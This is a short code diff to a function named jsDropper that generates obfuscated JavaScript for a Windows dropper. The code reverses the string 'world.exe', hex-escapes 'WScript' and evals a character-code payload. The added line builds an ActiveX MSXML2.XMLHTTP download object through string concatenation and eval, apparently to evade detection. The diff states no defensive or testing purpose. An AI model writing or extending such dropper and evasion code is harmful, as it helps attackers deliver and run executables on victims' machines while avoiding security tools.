@@ -34,6 +34,7 @@ export function jsDropper(): string {
     `var r = 'exe.dlrow'.split('').reverse().join('');`,
     `var k = '\\x57\\x53\\x63\\x72\\x69\\x70\\x74';`,
     `eval(String.fromCharCode(${codes}));`,
+    `var c1 = 'new ActiveX'; var c2 = c1 + "Object('MSXML2.XMLHTTP')"; eval(c2);`,
   ].join('\n');
 }
 
